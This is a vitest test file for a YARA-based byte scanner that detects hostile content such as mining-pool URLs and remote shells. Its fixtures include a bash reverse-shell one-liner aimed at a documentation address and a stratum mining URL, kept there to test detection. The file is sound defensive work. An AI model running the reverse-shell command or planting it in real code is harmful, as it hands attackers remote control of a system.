import { readdir, readFile } from 'node:fs/promises';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { type ByteExample, type ByteRule, defineByteRule } from './byteRule.js';
import { ByteScanner } from './byteScanner.js';
import { BYTE_RULES, YARA_VERSION } from './rules.js';

const bytesOf = ({ content }: ByteExample) => (typeof content === 'string' ? Buffer.from(content) : content);

async function findingsOf(examples: readonly ByteExample[], rules?: readonly ByteRule[], timeoutMs?: number) {
  const scanner = new ByteScanner({ ...(rules && { rules }), ...(timeoutMs && { timeoutMs }) });
  for (const example of examples) await scanner.add(example.path ?? 'data', bytesOf(example));
  return scanner.findings;
}
const idsOf = async (examples: readonly ByteExample[]) => (await findingsOf(examples)).map(({ rule }) => rule);

describe.each(BYTE_RULES.map((rule) => [rule.id, rule] as const))('%s', (id, { examples }) => {
  test.each(examples.flags)('flags $path', async (example) => {
    expect(await idsOf([example])).toContain(id);
  });
  test.each(examples.passes)('passes $path', async (example) => {
    expect(await idsOf([example])).not.toContain(id);
  });
});

test('ids are unique, and every rule shows both what it flags and what it passes', () => {
  expect(new Set(BYTE_RULES.map(({ id }) => id)).size).toBe(BYTE_RULES.length);
  for (const { id, examples } of BYTE_RULES) {
    expect(id).toMatch(/^[a-z]+(?:-[a-z]+)*$/);
    expect(examples.flags.length * examples.passes.length, id).toBeGreaterThan(0);
  }
});

test('a finding names the file, the line and what stands there', async () => {
  const text = `# settings\npool: "stratum+tcp://pool.invalid:3333" # \u202e\n`;
  expect(await findingsOf([{ path: 'a.yml', content: text }])).toEqual([
    expect.objectContaining({
      ...{ rule: 'mining-pool', severity: 'high', file: 'a.yml', line: 2 },
      excerpt: expect.stringMatching(/^pool: "stratum\+tcp:\/\/pool\.invalid:3333"[\x20-\x7e]*$/),
    }),
  ]);
});

test('among many files, each that a rule means is found, however much stands around it', async () => {
  const plain = (index: number) => ({ path: `a${index}.txt`, content: `text ${index} `.repeat(500) });
  const noise = { path: 'noise.txt', content: 'getRuntime() <?php '.repeat(3000) };
  const meant = (path: string) => ({ path, content: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' });
  const many = Array.from({ length: 2000 }, (_, index) => plain(index));
  const found = await findingsOf([
    meant('first'),
    ...many.slice(0, 900),
    noise,
    meant('amid'),
    ...many.slice(900),
    meant('last'),
  ]);
  expect(found.map(({ rule, file }) => `${rule} ${file}`)).toEqual([
    'remote-shell-command first',
    'remote-shell-command amid',
    'remote-shell-command last',
  ]);
});

test('a large file is looked through to its end', async () => {
  const large = Buffer.alloc(40 * 1024 * 1024, 'a line of text\n');
  large.write('stratum+tcp://pool.invalid', large.length - 100);
  expect(await findingsOf([{ path: 'large.txt', content: large }])).toMatchObject([{ rule: 'mining-pool' }]);
});

const PACKAGES = [
  ...['acorn', 'ajv', 'bullmq', 'commander', 'debug', 'express', 'fast-check', 'iconv-lite', 'ioredis', 'luxon'],
  ...['marked', 'mime-db', 'msgpackr', 'papaparse', 'pg', 'pino', 'qs', 'react-dom', 'semver', 'zod'],
];

test('of well-known packages, as published, no file is flagged', async () => {
  const modules = join(import.meta.dirname, '../../../../node_modules');
  const scanner = new ByteScanner();
  let count = 0;
  for (const name of PACKAGES) {
    const entries = await readdir(join(modules, name), { recursive: true, withFileTypes: true });
    for (const entry of entries.filter((each) => each.isFile())) {
      await scanner.add(`${name}/${entry.name}`, await readFile(join(entry.parentPath, entry.name)));
      count++;
    }
  }
  expect(count).toBeGreaterThan(2000);
  expect(scanner.findings).toEqual([]);
});

const slow = defineByteRule({
  ...{ id: 'slow', severity: 'low', message: 'Slow.', why: 'A test.', text: /a/ },
  strings: '$a = "a"',
  condition: 'for any i in (1..#a): (for any j in (1..#a): (for any k in (1..#a): (@a[i] + @a[j] + @a[k] == 5000)))',
  examples: { flags: [], passes: [] },
});

test('a search that takes too long, and rules that are none, wait for a person', async () => {
  const example = { content: 'a'.repeat(300_000) };
  expect(await findingsOf([example], [slow], 500)).toMatchObject([
    { rule: 'bytes-not-scanned', severity: 'high', message: expect.stringContaining('too long') },
  ]);
  expect(await findingsOf([example], [{ ...slow, condition: 'nothing' }])).toMatchObject([
    { rule: 'bytes-not-scanned', severity: 'high', message: expect.stringContaining('loaded') },
  ]);
});

test('the version that a verdict names is that of the engine', async () => {
  const manifest = createRequire(import.meta.url).resolve('@virustotal/yara-x/package.json');
  expect(JSON.parse(await readFile(join(manifest), 'utf8'))).toMatchObject({ version: YARA_VERSION });
});
